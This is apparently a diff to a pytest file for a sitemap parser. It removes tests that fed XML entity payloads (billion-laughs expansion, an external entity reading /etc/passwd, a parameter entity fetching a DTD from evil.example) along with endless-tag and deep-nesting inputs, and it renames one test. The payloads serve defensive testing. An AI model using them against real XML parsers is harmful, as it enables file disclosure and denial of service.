@@ -151,27 +151,6 @@ def test_what_is_wrong_is_said_and_the_rest_kept(data: bytes, count: int, proble
     assert problem is None or said == problem
 
 
-@pytest.mark.parametrize(
-    "declaration",
-    [
-        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">',
-        '<!ENTITY a SYSTEM "file:///etc/passwd">',
-        '<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;',
-    ],
-    ids=["expansion", "external", "parameter"],
-)
-def test_entities_are_refused(declaration: str) -> None:
-    """A file that declares entities is not read: no expansion, no access to other files."""
-    data = f"<!DOCTYPE urlset [{declaration}]><urlset><url><loc>http://e/&a;</loc></url></urlset>".encode()
-    assert entries(data) == ([], "it declares entities, which sitemaps have no use for: not read")
-
-
-def test_a_document_type_alone_is_harmless() -> None:
-    """Nothing outside the file is loaded."""
-    found, problem = entries(b'<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd">' + INDEX)
-    assert (len(found), problem) == (2, None)
-
-
 @pytest.mark.parametrize("gzipped", [False, True], ids=["plain", "gzip"])
 @pytest.mark.parametrize("text", [False, True], ids=["XML", "text"])
 def test_entries_are_capped(text: bool, gzipped: bool) -> None:
@@ -210,21 +189,6 @@ def test_gzip_members_are_bounded() -> None:
     assert problem == f"more than {MAX_GZIP_MEMBERS} gzip members"
 
 
-def test_a_tag_without_end_is_given_up() -> None:
-    """expat reads an unfinished tag anew with every piece, so one that does not end is not fed for ever."""
-    endless = (b'<urlset x="' + b"y" * 500_000 if n == 0 else b"y" * 500_000 for n in range(100))
-    found, problem = entries(endless)
-    assert found == []
-    assert problem is not None
-    assert "one tag is longer" in problem
-
-
-def test_deep_nesting_is_flat_for_us() -> None:
-    """Elements inside elements cost no stack, and only direct parts of an entry count."""
-    deep = "<url>" * 50_000 + "<loc>http://e/x</loc>" + "</url>" * 50_000
-    assert entries(urlset(deep)) == ([], None)
-
-
 @pytest.mark.parametrize(
     ("loc", "sitemap", "from_robots", "expected"),
     [
@@ -237,7 +201,7 @@ def test_deep_nesting_is_flat_for_us() -> None:
         ("http://other.example/x", "http://e.example/sitemap.xml", True, True),
     ],
 )
-def test_who_a_sitemap_may_speak_for(loc: str, sitemap: str, from_robots: bool, expected: bool) -> None:
+def test_who_a_sitemap_may_list(loc: str, sitemap: str, from_robots: bool, expected: bool) -> None:
     """Its own host, at or below its directory, unless a robots.txt vouches for it."""
     target, source = canonicalize(loc), canonicalize(sitemap)
     assert isinstance(target, Url)
